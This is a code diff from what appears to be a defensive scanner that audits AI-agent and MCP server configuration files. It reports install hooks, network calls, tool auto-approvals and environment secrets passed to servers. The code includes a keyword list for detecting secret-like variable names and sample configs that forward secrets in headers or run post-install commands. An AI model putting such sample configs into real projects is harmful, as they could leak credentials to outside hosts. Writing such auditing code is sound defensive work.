-// src/powers/examples/apm-yml.ts
-const manifest$4 = (text) => ({ "p/apm.yml": `name: p\nversion: 1.0.0\n${text}` });
-const example$18 = exampleWriter(manifest$4);
-// src/powers/carriers/apm-yml.ts
-const apmYml = {
-	id: "apm-yml",
-	title: "`apm.yml`",
-	client: "apm",
-	extensions: ["yml"],
-	fields: [
-		{
-			field: "dependencies.apm[]",
-			kind: "install",
-			description: "installs the package"
-		},
-		{
-			field: "dependencies.mcp[]",
-			kind: "mcp",
-			description: "adds the server to every client"
-		},
-		{
-			field: "dependencies.mcp[].env, headers",
-			kind: "secret",
-			description: "passes on variables of the environment"
-		},
-		{
-			field: "lifecycle.<event>[].run",
-			kind: "run",
-			description: "runs the command at the event"
-		},
-		{
-			field: "lifecycle.<event>[].url",
-			kind: "net",
-			description: "sends a request to the host"
-		},
-		{
-			field: "scripts.<name>",
-			kind: "run",
-			description: "runs with `apm run`"
-		},
-		{
-			field: "registries, includes",
-			kind: "settings",
-			description: "shown as written"
+// src/powers/table/read-table.ts
+function readTable(value, rows, { prefix = "", isForPeople = false, ...place }) {
+	const home = {
+		...place,
+		prefix,
+		isForPeople,
+		isRead: false,
+		keys: []
+	};
+	if (value.kind === "table") return combine$1(...fieldsOf(value, tree$2(rows), home));
+	const table = {
+		kind: "table",
+		at: value.at,
+		fields: new Map()
+	};
+	return combine$1(...readBelow(value, tree$2(rows), {
+		table,
+		name: prefix,
+		home
+	}));
+}
+const tree$2 = memoize((rows) => {
+	const root = { named: new Map() };
+	for (const row of rows) nodeAt(root, row.field).row = row;
+	return root;
+});
+const segment = /"[^"]*"|<[^>]*>|\[\]|[^.[\]]+/g;
+function segmentsOf$1(field) {
+	return field.match(segment) ?? [];
+}
+function nodeAt(root, field) {
+	let node = root;
+	for (const part of segmentsOf$1(field)) node = childOf(node, part);
+	return node;
+}
+function childOf(node, part) {
+	if (part === "[]") {
+		node.items ??= { named: new Map() };
+		return node.items;
+	}
+	if (part.startsWith("<")) {
+		node.any ??= { named: new Map() };
+		return node.any;
+	}
+	const key = part.replace(/^"(.*)"$/, "$1");
+	const known = node.named.get(key) ?? { named: new Map() };
+	node.named.set(key, known);
+	return known;
+}
+function fieldsOf(table, node, home) {
+	return [...table.fields.values()].flatMap((field) => {
+		const { key, keyAt, value } = field;
+		const name = `${home.prefix}${key}`;
+		const named = node.named.get(key);
+		if (named) return readField(field, named, {
+			table,
+			name,
+			home
+		});
+		const keys = [...home.keys, key];
+		if (node.any) return readField(field, node.any, {
+			table,
+			name,
+			home: {
+				...home,
+				keys
+			}
+		});
+		const json = canonical(toJson(value));
+		if (home.isForPeople && home.prefix === "") return { unread: [{
+			field: name,
+			value: json,
+			at: keyAt
+		}] };
+		return { grants: [unknownField(name, json, keyAt)] };
+	});
+}
+function readField(field, node, at) {
+	const { row } = node;
+	const { table, name, home } = at;
+	const { source, client, keys } = home;
+	const read = row?.read?.(field, {
+		name,
+		table,
+		keys,
+		source,
+		client
+	});
+	const own = read && row?.kind === "guard" ? ofGuard(read) : read;
+	const below = row?.rows ? tree$2(row.rows) : node;
+	const isRead = home.isRead || row !== void 0;
+	return [...own ? [own] : [], ...readBelow(field.value, below, {
+		...at,
+		home: {
+			...home,
+			isRead
 		}
+	})];
+}
+function readBelow(value, node, at) {
+	const { name, home } = at;
+	const hasKeys = node.named.size > 0 || node.any !== void 0;
+	if (value.kind === "table" && hasKeys) return fieldsOf(value, node, {
+		...home,
+		prefix: `${name}.`
+	});
+	const { items } = node;
+	if (value.kind === "list" && items) return value.items.flatMap((item) => {
+		const field = {
+			key: "",
+			keyAt: item.at,
+			value: item
+		};
+		const itemName = text$1(get(item, "name")) ?? "";
+		return readField(field, items, {
+			...at,
+			name: `${name}[${itemName}]`
+		});
+	});
+	if (home.isRead || !(hasKeys || items)) return [];
+	return [{ faults: [guardFault({
+		...wrongType(name, value, {
+			expected: hasKeys ? "a mapping" : "a list",
+			consequence: `${home.client} does not use it`
+		}),
+		isUnreadable: true
+	}, limits(node))] }];
+}
+function unknownField(name, value, at) {
+	return {
+		kind: "settings",
+		feature: "unknown-field",
+		subject: name,
+		scope: `${name}: ${value}`,
+		reach: "one",
+		trigger: inRepository,
+		at
+	};
+}
+function ofGuard(result) {
+	return {
+		...result,
+		faults: result.faults?.map((fault) => guardFault(fault)) ?? []
+	};
+}
+function limits({ row, named, any, items }) {
+	const below = [
+		...named.values(),
+		...any ? [any] : [],
+		...items ? [items] : []
+	];
+	return row?.kind === "guard" || below.some(limits);
+}
+// src/powers/table/table-carrier.ts
+function tableCarrier(file) {
+	const { format, consequence, readWhole, optionalKey, marks, examples = [], ...carrier } = file;
+	return {
+		...carrier,
+		extensions: extensions[format],
+		read: (source) => marks?.test(source.text) === false ? nothing$1 : readFile$1(file, source),
+		examples
+	};
+}
+const extensions = {
+	json: ["json"],
+	jsonc: ["json", "jsonc"],
+	toml: ["toml"],
+	yaml: ["yml", "yaml"]
+};
+function readFile$1(file, source) {
+	const { root, faults } = parse$5(file, source);
+	if (root?.kind !== "table") return combine$1({ faults });
+	const { rows, client, readWhole, optionalKey } = file;
+	const table = optionalKey === void 0 ? root : wrapped(root, optionalKey);
+	return combine$1(readWhole?.(table, source) ?? {}, readTable(table, rows, {
+		source,
+		client
+	}));
+}
+function wrapped(root, key) {
+	if (root.fields.has(key)) return root;
+	return {
+		...root,
+		fields: new Map([[key, {
+			key,
+			keyAt: root.at,
+			value: root
+		}]])
+	};
+}
+function parse$5({ format, consequence }, { path, text }) {
+	if (format === "toml") return readToml(path, text, consequence);
+	if (format === "yaml") return readYaml(path, text, consequence);
+	return readJson$1(path, text, {
+		consequence,
+		hasComments: format === "jsonc"
+	});
+}
+// src/powers/carriers/agents-marketplace.ts
+const listing = (entry) => ({
+	name: "acme",
+	plugins: [{
+		name: "p",
+		source: "./p",
+		...entry
+	}]
+});
+const agentsMarketplace = tableCarrier({
+	id: "agents-marketplace",
+	paths: [".agents/plugins/marketplace.json"],
+	client: "Codex",
+	isCheckedElsewhere: true,
+	format: "json",
+	consequence: "Codex offers no plugin of it",
+	rows: [
+		...grants$1("install", "plugins[].source", "offers the plugin of another place", {
+			example: listing({ source: {
+				source: "url",
+				url: "https://git.example/acme/p.git",
+				ref: "main"
+			} }),
+			without: listing({ source: {
+				source: "local",
+				path: "./plugins/p"
+			} })
+		}),
+		...grants$1("settings", "plugins[].policy.installation", "`INSTALLED_BY_DEFAULT`: installs the plugin without asking", {
+			example: listing({ policy: { installation: "INSTALLED_BY_DEFAULT" } }),
+			without: listing({ policy: { installation: "AVAILABLE" } })
+		}),
+		...grants$1("guard", "plugins[].policy", "`NOT_AVAILABLE`: nobody can install the plugin", { example: listing({ policy: { installation: "NOT_AVAILABLE" } }) }),
+		...within("plugins[].policy", harmless$1("authentication products")),
+		...within("plugins[].source", harmless$1("source url path ref sha repo package version registry")),
+		...harmless$1(`
+      name interface $schema plugins[].name plugins[].category plugins[].description
+      plugins[].interface plugins[].version plugins[].tags
+    `)
 	],
 	unitOf(path) {
-		return nameOf$3(path) === "apm.yml" ? {
-			kind: "plugin",
-			root: folderOf(path)
+		const folder = folderOf(path);
+		return nameOf$3(path) === "marketplace.json" && /(?:^|\/)\.agents\/plugins$/.test(folder) ? {
+			kind: "repository",
+			root: folderOf(folderOf(folder))
 		} : null;
 	},
-	read: read$3,
-	examples: [
-		example$18("install", "acme/skills/review#main", [
-			"dependencies:\n  apm:\n    - acme/skills/review#main\n",
-			"dependencies:\n  apm: []\n",
-			"dependencies: {apm: [\"acme/skills/review#main\"]}\n"
-		]),
-		example$18("mcp", "npx -y docs-mcp@latest", [
-			"dependencies:\n  mcp:\n    - name: docs\n      registry: false\n      command: npx\n      args: [-y, docs-mcp@latest]\n",
-			"dependencies: {}\n",
-			"dependencies: {mcp: [{command: npx, args: [-y, docs-mcp@latest], name: docs, registry: false}]}\n"
-		]),
-		example$18("mcp", "io.github.acme/docs", ["dependencies:\n  mcp:\n    - io.github.acme/docs\n", "dependencies:\n  mcp: []\n"]),
-		example$18("secret", "${DOCS_KEY} to https://docs.example/mcp", ["dependencies:\n  mcp:\n    - {name: docs, url: \"https://docs.example/mcp\", headers: {X-Key: \"${DOCS_KEY}\"}}\n", "dependencies:\n  mcp:\n    - {name: docs, url: \"https://docs.example/mcp\"}\n"]),
-		example$18("run", "./setup.sh", [
-			"lifecycle:\n  post-install:\n    - type: command\n      run: ./setup.sh\n",
-			"lifecycle: {}\n",
-			"lifecycle: {post-install: [{run: ./setup.sh, type: command}]}\n"
-		]),
-		example$18("run", "codex review.prompt.md", ["scripts:\n  review: codex review.prompt.md\n", "scripts: {}\n"]),
-		example$18("net", "https://x.example/installed", ["lifecycle:\n  post-install:\n    - {type: http, url: \"https://x.example/installed\"}\n", "lifecycle: {}\n"]),
-		example$18("settings", "registries", ["registries: {own: {url: \"https://registry.example\"}}\n", ""])
-	]
-};
-const known$20 = new Set(wordList(`
-  name version description author license target targets type dependencies devDependencies scripts
-  lifecycle registries includes compilation homepage repository keywords tags exclude
+	readWhole: (root) => combine$1(...items(get(root, "plugins")).map(readEntry)),
+	sample: { path: ".agents/plugins/marketplace.json" }
+});
+const availabilities = [
+	"NOT_AVAILABLE",
+	"AVAILABLE",
+	"INSTALLED_BY_DEFAULT"
+];
+function readEntry(entry) {
+	const name = text$1(get(entry, "name")) ?? "";
+	const subject = `plugin ${name}`;
+	const installation = get(get(entry, "policy"), "installation");
+	const availability = text$1(installation);
+	const written = get(entry, "source");
+	const source = text$1(get(written, "source")) === "local" || /^\.{1,2}\//.test(text$1(get(written, "url")) ?? "") ? null : readSource(written);
+	const at = written?.at ?? entry.at;
+	const scope = `installation of ${subject}: ${availability}`;
+	const isLimit = availability === "NOT_AVAILABLE";
+	const setting = settingGrant(`installation of ${subject}`, scope, {
+		kind: isLimit ? "guard" : "settings",
+		at: installation?.at ?? entry.at
+	});
+	const isSet = availability !== void 0 && availability !== "AVAILABLE";
+	const message = msg`Unknown ${code$1("installation")} ${code$1(availability ?? "")} of plugin ${namePart(name)}.`;
+	const help = msg`Use one of ${list(availabilities.map((known) => code$1(known)))}.`;
+	const plugin = {
+		kind: "plugin",
+		name
+	};
+	const isKnown = availability === void 0 || availabilities.includes(availability);
+	return {
+		grants: [...sourceGrants(source, {
+			subject,
+			at,
+			entry: plugin
+		}), ...isSet ? [setting] : []],
+		faults: isKnown ? [] : [grantFault(message, installation?.at ?? entry.at, help)]
+	};
+}
+// src/syntax/secret-name.ts
+const secretEndings = wordList(`
+  password passwd passphrase secret secrets token apikey credential credentials
+`);
+const wordsBeforeSecretKey = new Set(wordList(`
+  api private secret access auth ssh deploy signing encryption master account license
 `));
-const dependencyKeys = new Set([
-	"apm",
-	"mcp",
-	"lsp"
+const wordsBeforePlainToken = new Set(wordList(`
+  max min num per start end stop first last next page bos eos pad mask unk special continuation
+  detokenize
+`));
+const formatWords = new Set([
+	"value",
+	"string",
+	"text",
+	"base64",
+	"b64",
+	"pem"
 ]);
-function read$3({ path, text: written, unit }) {
-	const { root, faults } = readYaml(path, written, "apm installs nothing of it");
-	if (root?.kind !== "table") return combine$1({ faults });
-	const { fields } = root;
+function isSecretName(name) {
+	const words = wordsOf$1(name);
+	while (words.length > 1 && formatWords.has(words.at(-1) ?? "")) words.pop();
+	const last = words.at(-1) ?? "";
+	const previous = words.at(-2) ?? "";
+	if (last === "key" || last === "keys") return wordsBeforeSecretKey.has(previous);
+	if (last === "token" && wordsBeforePlainToken.has(previous)) return false;
+	return secretEndings.some((ending) => last.endsWith(ending));
+}
+function wordsOf$1(name) {
+	return name.slice(0, 200).replace(/([a-z0-9])([A-Z])/g, "$1 $2").toLowerCase().split(/[^\p{L}\p{N}]+/u).map((word) => formatWords.has(word) ? word : word.replace(/\d{1,9}$/, "")).filter((word) => word !== "");
+}
+// src/powers/servers/server-rows.ts
+const opaqueKeys$1 = [
+	"cwd",
+	"envFile",
+	"oauth"
+];
+function serverRows$3(field, prefix = field) {
+	const docs = (server) => ({ [field]: { docs: server } });
+	const url = "https://docs.example";
+	return within(`${prefix}.<name>`, [
+		...grants$1("mcp", "command", "starts the program as a server, with its tools", {
+			example: docs({
+				command: "npx",
+				args: ["-y", "docs-mcp@latest"]
+			}),
+			without: { [field]: {} }
+		}),
+		...grants$1("mcp", "url", "connects to the server, with its tools", {
+			example: docs({
+				type: "http",
+				url
+			}),
+			without: { [field]: {} }
+		}),
+		...grants$1("secret", "headers", "sends variables of the environment to the host", { example: docs({
+			type: "http",
+			url,
+			headers: { "X-Key": "${KEY}" }
+		}) }),
+		...grants$1("secret", "env", "gives variables of the environment to the server", { example: docs({
+			command: "db-mcp",
+			env: { URL: "${DB_URL}" }
+		}) }),
+		...grants$1("run", "headersHelper", "runs the command at every connection", { example: docs({
+			type: "http",
+			url,
+			headersHelper: "./header.sh"
+		}) }),
+		...grants$1("settings", `${opaqueKeys$1.join(", ")}`, "decides what the server is", { example: docs({
+			command: "db-mcp",
+			cwd: "./db"
+		}) }),
+		...grants$1("approve", "toolPermissions.<tool>", "`allow`: calls the tool without asking", {
+			example: docs({
+				type: "http",
+				url,
+				toolPermissions: { search: "allow" }
+			}),
+			without: docs({
+				type: "http",
+				url,
+				toolPermissions: { search: "ask" }
+			})
+		}),
+		...grants$1("net", "network.hosts", "reaches the hosts", { example: docs({
+			command: "db-mcp",
+			network: { hosts: ["x.example"] }
+		}) }),
+		...harmless$1(`
+      args type transport serverUrl timeout alwaysLoad description disabled displayName
+      discoveryCache bareElicitationCapability role request_timeout_ms orgMaxPermission stateless
+    `)
+	]);
+}
+// src/powers/servers/mcp-servers.ts
+const whileEnabled = { start: "enabled" };
+function readServers$1(value, home) {
+	if (!value) return combine$1();
+	if (value.kind !== "table") return combine$1({ faults: [{
+		...wrongType("mcpServers", value, {
+			expected: "a mapping of servers",
+			consequence: "none of them is started"
+		}),
+		isUnreadable: true
+	}] });
+	return combine$1(...fields(value).map((field) => readServer$2(field, home)));
+}
+function readServer$2({ key, keyAt, value }, home) {
+	const base = {
+		feature: "mcp-server",
+		subject: `server ${key}`,
+		trigger: home.trigger ?? whileEnabled,
+		server: key,
+		entry: {
+			kind: "MCP server",
+			name: key
+		}
+	};
+	if (value.kind !== "table") {
+		const fault = wrongType(key, value, {
+			expected: msg`a mapping with ${code$1("command")} or ${code$1("url")}`,
+			consequence: "the client does not start the server"
+		});
+		return combine$1({
+			grants: [{
+				...base,
+				kind: "mcp",
+				scope: key,
+				reach: "unknown",
+				at: keyAt
+			}],
+			faults: [fault]
+		});
+	}
 	return combine$1({
+		grants: [
+			...value.fields.has("url") || value.fields.has("serverUrl") ? remoteGrants(value) : localGrants(value, key),
+			...opaqueGrants(value, key, [...opaqueKeys$1, ...home.opaqueKeys ?? []]),
+			...toolApprovals(value, key),
+			...statedHosts(value, key)
+		].map((part) => ({
+			...base,
+			at: keyAt,
+			...part
+		})),
+		faults: serverFaults({
+			key,
+			keyAt,
+			value
+		}, home),
+		unread: unreadValues(value, key)
+	});
+}
+function localGrants(server, name) {
+	const command = get(server, "command");
+	const words = [...command?.kind === "list" ? command.items : command ? [command] : [], ...items(get(server, "args"))].map((item) => source(item) ?? "");
+	const line = joinWords(words);
+	const reach = words.length === 0 ? "unknown" : "one";
+	const cwd = text$1(get(server, "cwd"));
+	return [{
+		kind: "mcp",
+		scope: line,
+		reach,
+		pin: pinOf$1(line),
+		command: words,
+		cwd
+	}, ...environmentGrants(server, name)];
+}
+function environmentGrants(server, name) {
+	return fields(get(server, "env")).flatMap(({ key, value }) => {
+		const written = source(value) ?? "";
+		const variables = variablesIn$1(written);
+		const setting = {
+			kind: "settings",
+			feature: "setting",
+			reach: "one",
+			at: value.at
+		};
+		if (variables.length === 0) {
+			const subject = `env ${key} of ${name}`;
+			return isSecretName(key) ? [] : [{
+				...setting,
+				subject,
+				scope: `env ${key}=${written}`
+			}];
+		}
+		return variables.map((variable) => ({
+			kind: "secret",
+			feature: "secret",
+			scope: `\${${variable}} to the server`,
+			variable,
+			reach: "one",
+			at: value.at
+		}));
+	});
+}
+function opaqueGrants(server, name, keys) {
+	return keys.flatMap((key) => {
+		const field = server.fields.get(key);
+		if (!field) return [];
+		const subject = `${key} of ${name}`;
+		return [{
+			kind: "settings",
+			feature: "setting",
+			reach: "one",
+			subject,
+			scope: `${subject}: ${canonical(toJson(field.value))}`,
+			at: field.keyAt
+		}];
+	});
+}
+function toolApprovals(server, name) {
+	const approved = [...fields(get(server, "toolPermissions")).filter(({ value }) => text$1(value) === "allow").map(({ key, keyAt }) => ({
+		tool: key,
+		at: keyAt
+	})), ...items(get(server, "tools")).filter((tool) => text$1(get(tool, "permission_policy")) === "always_allow").map((tool) => ({
+		tool: text$1(get(tool, "name")) ?? "",
+		at: tool.at
+	}))];
+	const subject = `tools of ${name}`;
+	return approved.map(({ tool, at }) => ({
+		kind: "approve",
+		feature: "permission-rule",
+		reach: "one",
+		subject,
+		scope: `${name} / ${tool}`,
+		at
+	}));
+}
+function statedHosts(server, name) {
+	return items(get(get(server, "network"), "hosts")).map((host) => ({
+		kind: "net",
+		feature: "setting",
+		reach: "one",
+		subject: `hosts of ${name}`,
+		scope: (source(host) ?? "").toLowerCase(),
+		at: host.at
+	}));
+}
+function unreadValues(server, name) {
+	return [...fields(get(server, "env")).filter(({ key }) => isSecretName(key)).map((field) => ({
+		path: `env.${field.key}`,
+		field
+	})), ...fields(get(server, "headers")).map((field) => ({
+		path: `headers.${field.key}`,
+		field
+	}))].filter(({ field }) => variablesIn$1(source(field.value) ?? "").length === 0).map(({ path, field: { keyAt, value } }) => ({
+		field: `mcpServers.${name}.${path}`,
+		value: canonical(toJson(value)),
+		at: keyAt,
+		subject: `server ${name}`
+	}));
+}
+function remoteGrants(server) {
+	const { name, isKnown, connection } = hostOf$2(text$1(get(server, "url") ?? get(server, "serverUrl")));
+	const helper = text$1(get(server, "headersHelper"));
+	const helperLine = helper === void 0 ? [] : [helper];
+	return [
+		{
+			kind: "mcp",
+			scope: name,
+			reach: isKnown ? "one" : "unknown",
+			connection
+		},
+		...secretsSent(server, name, ["headers", "url"]),
+		...helperLine.map((line) => ({
+			kind: "run",
+			feature: "helper-command",
+			reach: "one",
+			scope: line.trim(),
+			pin: pinOf$1(line),
+			command: line
+		}))
+	];
+}
+function serverFaults({ key, keyAt, value }, { needsType }) {
+	const url = get(value, "url");
+	const command = get(value, "command");
+	if (!url && !command && !get(value, "serverUrl")) return [grantFault(msg`MCP server ${namePart(key)} has neither ${code$1("command")} nor ${code$1("url")}.`, keyAt)];
+	if (url && needsType && !get(value, "type")) return [grantFault(msg`MCP server ${namePart(key)} has no ${code$1("type")}. Claude Code skips it.`, keyAt, msg`Add ${code$1("\"type\": \"http\"")}.`)];
+	return [];
+}
+// src/powers/servers/client-servers.ts
+const opaqueKeys = wordList(`
+  sandbox auth oidc filterMapping safeForTelemetry disableSecretMasking events notifications
+`);
+function clientServersRows(field, home = {}) {
+	return [...grants$1("mcp", field, "starts the servers, with their tools", { read: ({ value }, { source: { unit } }) => readClientServers(value, {
+		...home,
+		unit
+	}) }), ...clientServerRows(field)];
+}
+function clientServerRows(field, prefix = field) {
+	const docs = (limit) => ({ [field]: { docs: {
+		command: "docs-mcp",
+		...limit
+	} } });
+	return [...serverRows$3(field, prefix), ...within(`${prefix}.<name>`, [
+		...grants$1("mcp", "httpUrl", "connects to the server, with its tools"),
+		...grants$1("secret", "environment, http_headers, bearer_token_env_var, env_http_headers", "passes on variables of the environment"),
+		...grants$1("guard", "tools, enabled_tools, includeTools", "limits the tools of the server", { example: docs({ tools: ["search"] }) }),
+		...grants$1("guard", "disabled_tools, excludeTools", "takes tools of the server away", { example: docs({ disabled_tools: ["write"] }) }),
+		...grants$1("guard", "sandboxEnabled", "true: limits what the server reaches", { example: docs({ sandboxEnabled: true }) }),
+		...grants$1("settings", opaqueKeys.join(", "), "decides what the server gets and sends", { example: docs({ sandbox: { network: true } }) }),
+		...harmless$1(`
+        enabled required startup_timeout_sec startup_timeout_ms tool_timeout_sec name gallery
+        version dev scopes startup_readiness authProviderType supports_parallel_tool_calls registry
+        deferTools disableToolCache slowConnectionThresholdMs headersRefreshTtlMs oauthClientId
+        oauthScopes oauthPublicClient oauthGrantType isDefaultServer source sourcePlugin
+        sourcePluginVersion sourcePluginSpec sourcePath configWarnings
+      `)
+	])];
+}
+function readClientServers(value, home) {
+	if (value?.kind !== "table") return readServers$1(value, home);
+	const active = fields(value).filter(({ value: server }) => home.ignoresMarks || !isOff(server));
+	return combine$1(readServers$1(tableOf$1(value, active.map((field) => ({
+		...field,
+		value: inClaudeSpelling(field.value)
+	}))), {
+		...home,
+		opaqueKeys
+	}), ...active.map((field) => ({ grants: limitsOf$2(field, home) })));
+}
+function isOff(server) {
+	return flag$1(get(server, "enabled")) === false || flag$1(get(server, "disabled")) === true;
+}
+const spellings$1 = new Map([
+	["environment", "env"],
+	["httpUrl", "url"],
+	["http_url", "url"],
+	["tcp", "url"],
+	["http_headers", "headers"]
+]);
+function inClaudeSpelling(server) {
+	if (server.kind !== "table") return server;
+	const own = fields(server).map((field) => {
+		const key = spellings$1.get(field.key) ?? field.key;
+		return {
+			...field,
+			key,
+			value: withVariables(field.value)
+		};
+	});
+	const sent = sentVariables(server);
+	if (sent.length === 0) return tableOf$1(server, own);
+	const headers = own.find(({ key }) => key === "headers");
+	const others = own.filter(({ key }) => key !== "headers");
+	const [first] = sent;
+	const all = tableOf$1(headers?.value ?? first.value, [...fields(headers?.value), ...sent]);
+	return tableOf$1(server, [...others, {
+		key: "headers",
+		keyAt: first.keyAt,
+		value: all
+	}]);
+}
+function sentVariables(server) {
+	const token = server.kind === "table" ? server.fields.get("bearer_token_env_var") : void 0;
+	return [...token ? [token] : [], ...fields(get(server, "env_http_headers"))].flatMap((field) => {
+		const name = text$1(field.value);
+		if (name === void 0 || field.value.kind !== "string") return [];
+		return [{
+			...field,
+			key: `$${field.key}`,
+			value: {
+				...field.value,
+				value: `\${${name}}`
+			}
+		}];
+	});
+}
+const variable$1 = /\$\{\{\s*(?:secrets|vars|env)\.(\w+)\s*\}\}|\$?\{env:(\w+)\}/g;
+function withVariables(value) {
+	if (value.kind === "table") return tableOf$1(value, fields(value).map((field) => ({
+		...field,
+		value: withVariables(field.value)
+	})));
+	if (value.kind !== "string") return value;
+	const written = String(value.value).replace(variable$1, (_, braced, plain) => `\${${braced ?? plain}}`);
+	return {
+		...value,
+		value: written
+	};
+}
+function tableOf$1(at, list) {
+	return {
+		kind: "table",
+		at: at.at,
+		fields: new Map(list.map((field) => [field.key, field]))
+	};
+}
+function limitsOf$2({ key, value }, home) {
+	const trigger = home.trigger ?? whileEnabled;
+	const subject = `tools of server ${key}`;
+	const allowed = [
+		"enabled_tools",
+		"includeTools",
+		"include_tools",
+		"tools"
+	].flatMap((name) => {
+		const list = get(value, name);
+		return list?.kind === "list" ? [list] : [];
+	});
+	const denied = [
+		"disabled_tools",
+		"excludeTools",
+		"exclude_tools"
+	].flatMap((name) => items(get(value, name)));
+	const limits = allowed.filter((list) => !list.items.some((item) => source(item) === "*"));
+	const base = {
+		feature: "setting",
+		trigger,
+		reach: "one"
+	};
+	const sandbox = get(value, "sandboxEnabled");
+	const scope = `sandbox of server ${key}`;
+	return [
+		...sandbox && flag$1(sandbox) === true ? [{
+			...base,
+			kind: "guard",
+			subject: scope,
+			scope,
+			at: sandbox.at
+		}] : [],
+		...limits.map((list) => {
+			const scope = `only listed tools of server ${key}`;
+			return {
+				...base,
+				kind: "guard",
+				subject,
+				scope,
+				at: list.at
+			};
+		}),
+		...limits.flatMap((list) => list.items.map((item) => {
+			const scope = `${key} / ${source(item) ?? ""}`;
+			return {
+				...base,
+				kind: "mcp",
+				subject,
+				scope,
+				at: item.at
+			};
+		})),
+		...denied.map((item) => {
+			const scope = `not ${key} / ${source(item) ?? ""}`;
+			return {
+				...base,
+				kind: "guard",
+				subject,
+				scope,
+				at: item.at
+			};
+		})
+	];
+}
+// src/powers/clients/apm-dependencies.ts
+function readDependency(entry) {
+	const [place = "", ownRef] = (source(entry) ?? addressOf(entry)).split(/#(.*)/s);
+	const ref = source(get(entry, "ref")) ?? ownRef ?? "";
+	if (/^\.{0,2}\//.test(place) || place === "" && text$1(get(entry, "path")) !== void 0) return {};
+	return { grants: [{
+		kind: "install",
+		feature: "source",
+		subject: `package ${place}`,
+		scope: ref === "" ? place : `${place}#${ref}`,
+		reach: place === "" ? "unknown" : "one",
+		pin: {
+			level: levelOf$1(ref),
+			program: place,
+			revision: ref || void 0
+		},
+		entry: {
+			kind: "package",
+			name: place
+		},
+		trigger: { start: "install" },
+		at: entry.at
+	}] };
+}
+function addressOf(entry) {
+	const address = source(get(entry, "git")) ?? source(get(entry, "repo")) ?? "";
+	const path = source(get(entry, "path"));
+	return address !== "" && path ? `${address}/${path}` : address;
+}
+function levelOf$1(ref) {
+	if (/^[\da-f]{40}$/i.test(ref)) return "digest";
+	return /^v?\d+\.\d+\.\d+/.test(ref) ? versionLevel(ref.replace(/^v/, "")) : "mutable";
+}
+function readServer$1(entry, unit) {
+	const name = source(entry) ?? source(get(entry, "name"));
+	const isOwn = get(entry, "command") !== void 0 || get(entry, "url") !== void 0;
+	if (name !== void 0 && isOwn) {
+		const field = {
+			key: name,
+			keyAt: entry.at,
+			value: entry
+		};
+		return readClientServers({
+			kind: "table",
+			at: entry.at,
+			fields: new Map([[name, field]])
+		}, { unit });
+	}
+	const version = source(get(entry, "version")) ?? "";
+	return { grants: [{
+		kind: "mcp",
+		feature: "mcp-server",
+		subject: `server ${name ?? ""}`,
+		at: entry.at,
+		scope: version === "" ? name ?? "" : `${name}@${version}`,
+		remark: "from the registry",
+		reach: name === void 0 ? "unknown" : "one",
+		trigger: { start: "enabled" },
+		entry: {
+			kind: "MCP server",
+			name: name ?? ""
+		},
+		pin: {
+			level: versionLevel(version),
+			program: name ?? ""
+		}
+	}] };
+}
+// src/powers/clients/apm-executables.ts
+function executableRows(key) {
+	const isOld = key === "allowExecutables";
+	const example = { [key]: isOld ? { "acme/kit": true } : { allow: { "acme/kit": true } } };
+	return [...grants$1("guard", key, "packages start only what it allows", {
+		read: ({ keyAt, value }, place) => {
+			return { grants: [settingGrant(key, `only allowed ${key}`, {
+				kind: "guard",
+				at: keyAt
+			}), ...isOld ? allowed$2({
+				key,
+				keyAt,
+				value
+			}, place).grants ?? [] : []] };
+		},
+		example: { [key]: isOld ? {} : { deny: { "acme/kit": true } } }
+	}), ...isOld ? [] : decisionRows(key, example)];
+}
+function decisionRows(key, example) {
+	return [...grants$1("approve", `${key}.allow`, "starts hooks, servers and programs of the package", {
+		read: allowed$2,
+		example,
+		without: { [key]: {} }
+	}), ...grants$1("guard", `${key}.deny`, "starts none of the package", {
+		read: denied,
+		example: { [key]: { deny: ["acme/kit"] } }
+	})];
+}
+const allowed$2 = ({ value }) => ({ grants: packages(value).map(({ text, at }) => settingGrant("executables", text, {
+	kind: "approve",
+	feature: "permission-rule",
+	at
+})) });
+const denied = ({ value }) => ({ grants: packages(value).map(({ text, at }) => settingGrant("executables", `not ${text}`, {
+	kind: "guard",
+	at
+})) });
+function packages(value) {
+	const named = items(value).map((item) => ({
+		name: source(item) ?? "",
+		types: item,
+		at: item.at
+	}));
+	const mapped = fields(value).map(({ key, keyAt, value: types }) => ({
+		name: key,
+		types,
+		at: keyAt
+	}));
+	return [...named, ...mapped].flatMap(({ name, types, at }) => {
+		if (flag$1(types) === false) return [];
+		const listed = items(types).map((type) => source(type) ?? canonical(toJson(type)));
+		return (listed.length > 0 ? listed : ["executables"]).map((kind) => ({
+			text: `${kind} of ${name}`,
+			at
+		}));
+	});
+}
+// src/powers/clients/apm-lifecycle.ts
+function readScripts(value) {
+	return combine$1({ grants: fields(value).map(({ key, value: script }) => {
+		const line = text$1(script)?.trim();
+		return {
+			kind: "run",
+			feature: "helper-command",
+			scope: line ?? key,
+			subject: `scripts.${key}`,
+			reach: line === void 0 ? "unknown" : "one",
+			trigger: { start: "typed" },
+			pin: pinOf$1(line ?? ""),
+			command: line,
+			at: script.at
+		};
+	}) });
+}
+function readLifecycle(value) {
+	if (!value || value.kind === "null") return combine$1();
+	if (value.kind !== "table") return combine$1({ faults: [{
+		...wrongType("lifecycle", value, {
+			expected: "a mapping of events",
+			consequence: "apm runs none of them"
+		}),
+		isUnreadable: true
+	}] });
+	return combine$1(...fields(value).map((field) => readEvent$2(field)));
+}
+const lifecycleRows = [
+	...grants$1("run", "run, command", "runs the command at the event"),
+	...grants$1("net", "url", "sends a request to the host"),
+	...grants$1("secret", "headers", "sends variables of the environment to the host"),
+	...harmless$1("type timeout name method")
+];
+function readEvent$2({ key, value }) {
+	return combine$1({ grants: (value.kind === "list" ? items(value) : [value]).flatMap((entry) => entryGrants(key, entry)) });
+}
+function entryGrants(event, entry) {
+	const base = {
+		feature: "helper-command",
+		subject: event,
+		trigger: {
+			start: "install",
+			event
+		}
+	};
+	const url = get(entry, "url");
+	if (url) {
+		const { name, isKnown } = hostOf$2(text$1(url));
+		const net = {
+			...base,
+			kind: "net",
+			feature: "setting",
+			scope: name,
+			at: url.at
+		};
+		const secrets = secretsSent(entry, name, ["headers", "url"]);
+		return [{
+			...net,
+			reach: isKnown ? "one" : "unknown"
+		}, ...secrets.map((secret) => ({
+			...secret,
+			subject: event,
+			trigger: base.trigger
+		}))];
+	}
+	const command = get(entry, "run") ?? get(entry, "command") ?? entry;
+	const line = text$1(command)?.trim();
+	return [{
+		...base,
+		kind: "run",
+		scope: line ?? "",
+		reach: line === void 0 ? "unknown" : "one",
+		pin: pinOf$1(line ?? ""),
+		command: line,
+		at: command.at
+	}];
+}
+// src/powers/examples/example.ts
